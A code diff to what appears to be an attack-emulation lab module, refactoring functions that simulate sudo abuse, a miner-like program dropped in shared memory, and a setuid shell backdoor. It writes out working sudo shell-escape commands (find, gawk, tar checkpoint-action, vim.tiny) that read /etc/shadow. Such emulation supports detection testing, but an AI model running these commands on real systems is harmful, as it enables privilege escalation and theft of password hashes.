@@ -4,6 +4,7 @@ from foreseen.lab.attacks.from_web import stolen_login
 from foreseen.lab.attacks.tools import Attack
 from foreseen.lab.channels import Login
 from foreseen.lab.host import run
+from foreseen.lab.layout import SHM, TMP, VAR_TMP
 from foreseen.lab.themes import token
 
 
@@ -25,11 +26,11 @@ def sudo_abuse(attack: Attack) -> None:
     inner = attack.choose(
         "id; head -3 /etc/shadow", "whoami; cat /etc/shadow | wc -l", "id; ls -la /srv/db/data"
     )
+    action = f"exec='sh -c \"{inner}\"'"
     ways = (
         f"sudo find /srv/db/conf -maxdepth 0 -exec /bin/sh -c '{inner}' \\;",
         f"sudo gawk 'BEGIN {{system(\"{inner}\")}}'",
-        "sudo tar cf /dev/null /srv/db/conf --checkpoint=1"
-        f" --checkpoint-action=exec='sh -c \"{inner}\"'",
+        f"sudo tar cf /dev/null /srv/db/conf --checkpoint=1 --checkpoint-action={action}",
         f"sudo vim.tiny -c ':!{inner}' -c ':q!'",
     )
     login.type(ways[attack.run.number % len(ways)], 2.5)
@@ -114,8 +115,8 @@ def log_clearing(attack: Attack) -> None:
 
 
 def miner_like(attack: Attack) -> None:
-    """A program with an odd name is fetched into shared memory and keeps a core busy for seconds."""
-    path = attack.hidden(where=("/dev/shm", "/dev/shm", "/var/tmp"))
+    """A program with an odd name is fetched into shared memory and keeps a core busy a while."""
+    path = attack.hidden(where=(SHM, SHM, VAR_TMP))
     address = attack.serve(program="worker")
     pool = f"{attack.address()}:{attack.rng.choice((3333, 5555, 14444))}"
     login = stolen_login(attack, "ci", "deploy", "dbadmin")
@@ -186,7 +187,7 @@ def lateral_movement(attack: Attack) -> None:
 
 def setuid_backdoor(attack: Attack) -> None:
     """A copy of the shell with the set-user-id bit is left behind and used."""
-    path = attack.hidden(where=("/tmp", "/var/tmp", "/var/tmp"))
+    path = attack.hidden(where=(TMP, VAR_TMP, VAR_TMP))
     login = stolen_login(attack, "bob", "alice", "ops")
     attack.run.step("T1548.001")
     login.type(
